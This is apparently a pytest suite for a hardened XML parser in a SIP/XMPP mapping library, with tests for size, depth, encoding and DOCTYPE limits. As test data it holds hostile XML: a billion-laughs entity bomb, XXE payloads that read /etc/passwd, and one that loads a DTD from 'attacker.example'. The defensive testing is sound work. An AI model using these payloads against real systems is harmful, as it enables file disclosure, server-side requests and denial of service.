"""mappings.xmlsafe: the one hardened parser refuses hostile XML and stays small."""

from __future__ import annotations

import tracemalloc
from collections.abc import Callable

import pytest
from lxml import etree

from mappings import xmlsafe
from mappings.errors import MappingError
from mappings.xmlsafe import XmlRejected, XmlTooLarge, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

XXE_FILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b"><note>&xxe;</note></presence>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE a [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><a/>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>"""

INTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE a [<!ELEMENT a ANY>]><a/>"""

PEAK_LIMIT = 4 * 1024 * 1024  # Python-side allocations while rejecting


def _peak(fn: Callable[[], object]) -> int:
    tracemalloc.start()
    try:
        fn()
    except XmlRejected:
        pass
    else:
        pytest.fail("hostile document was accepted")
    finally:
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


def test_accepts_plain_utf8_and_strips_comments_and_pis() -> None:
    root = parse_xml(
        b'<?xml version="1.0" encoding="UTF-8"?><a xmlns="urn:x"><!-- c --><?pi x?>'
        b"<b>t\xc3\xa9</b></a>"
    )
    assert root.tag == "{urn:x}a"
    assert [child.tag for child in root] == ["{urn:x}b"]
    assert root[0].text == "té"


def test_accepts_utf8_bom_and_ascii_declaration() -> None:
    assert parse_xml(b"\xef\xbb\xbf<a/>").tag == "a"
    assert parse_xml(b'<?xml version="1.0" encoding="us-ascii"?><a/>').tag == "a"


@pytest.mark.parametrize(
    "doc", [BILLION_LAUGHS, XXE_FILE, XXE_PARAMETER, EXTERNAL_DTD, INTERNAL_DTD]
)
def test_any_doctype_is_rejected_with_bounded_memory(doc: bytes) -> None:
    assert _peak(lambda: parse_xml(doc)) < PEAK_LIMIT


def test_rejection_never_leaks_file_contents() -> None:
    with pytest.raises(XmlRejected) as info:
        parse_xml(XXE_FILE)
    assert "root:" not in str(info.value)


def test_the_parser_itself_does_not_expand_entities() -> None:
    """Defence in depth: even without the DOCTYPE pre-check nothing is expanded."""
    parser = xmlsafe._parser()
    try:
        root = etree.fromstring(XXE_FILE, parser)
    except etree.XMLSyntaxError:
        pass
    else:
        assert b"root:" not in etree.tostring(root)
    try:
        root = etree.fromstring(BILLION_LAUGHS, parser)
    except etree.XMLSyntaxError:
        pass
    else:
        assert len(etree.tostring(root)) < 10_000


def test_ten_thousand_levels_of_nesting_rejected() -> None:
    deep = b"<a>" * 10_000 + b"</a>" * 10_000
    assert _peak(lambda: parse_xml(deep, max_bytes=1_000_000)) < PEAK_LIMIT


def test_depth_limit_is_exact() -> None:
    def nested(n: int) -> bytes:
        return b"<a>" * n + b"</a>" * n

    assert parse_xml(nested(32)).tag == "a"
    with pytest.raises(XmlRejected, match="deeper"):
        parse_xml(nested(33))
    assert parse_xml(nested(5), max_depth=5).tag == "a"


def test_multi_megabyte_document_is_too_large() -> None:
    big = b"<a>" + b"x" * (4 * 1024 * 1024) + b"</a>"
    with pytest.raises(XmlTooLarge) as info:
        parse_xml(big)
    assert info.value.sip_status == 413
    assert info.value.xmpp_condition == "policy-violation"
    assert _peak(lambda: parse_xml(big)) < PEAK_LIMIT


def test_size_limit_is_a_parameter() -> None:
    doc = b"<a>" + b"x" * 100 + b"</a>"
    assert parse_xml(doc, max_bytes=len(doc)).tag == "a"
    with pytest.raises(XmlTooLarge):
        parse_xml(doc, max_bytes=len(doc) - 1)


def test_huge_attribute_rejected() -> None:
    huge = b'<a b="' + b"x" * (8 * 1024 * 1024) + b'"/>'
    assert _peak(lambda: parse_xml(huge)) < PEAK_LIMIT
    within_bytes = b'<a b="' + b"x" * 5000 + b'"/>'
    with pytest.raises(XmlRejected, match="attribute"):
        parse_xml(within_bytes)
    assert parse_xml(b'<a b="' + b"x" * 4096 + b'"/>').get("b") == "x" * 4096


def test_element_count_limit() -> None:
    many = b"<a>" + b"<b/>" * 3000 + b"</a>"
    with pytest.raises(XmlRejected, match="elements"):
        parse_xml(many)
    assert len(parse_xml(b"<a>" + b"<b/>" * 1999 + b"</a>")) == 1999


@pytest.mark.parametrize(
    "doc",
    [
        '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
        b"<a>\xff\xfe</a>",
        b"\x00<\x00a\x00/\x00>",
    ],
    ids=["utf16", "latin1", "invalid-utf8", "utf16-no-bom"],
)
def test_non_utf8_rejected(doc: bytes) -> None:
    with pytest.raises(XmlRejected, match="UTF-8"):
        parse_xml(doc)


@pytest.mark.parametrize(
    "doc", [b"", b"   ", b"<a>", b"<a></b>", b"<a>&undefined;</a>", b"not xml", b"<a/><b/>"]
)
def test_malformed_is_bad_request(doc: bytes) -> None:
    with pytest.raises(XmlRejected) as info:
        parse_xml(doc)
    assert info.value.sip_status == 400
    assert info.value.xmpp_condition == "bad-request"


def test_errors_are_mapping_errors() -> None:
    with pytest.raises(MappingError) as info:
        parse_xml(b"<a>")
    assert isinstance(info.value, ValueError)
    assert info.value.to_sip().code == 400


def test_xml_lang_is_inherited() -> None:
    root = parse_xml(b'<a xml:lang="cs"><b><c xml:lang="en"/><d/></b></a>')
    assert xmlsafe.xml_lang(root[0][0]) == "en"
    assert xmlsafe.xml_lang(root[0][1]) == "cs"
    assert xmlsafe.xml_lang(parse_xml(b"<a/>")) is None
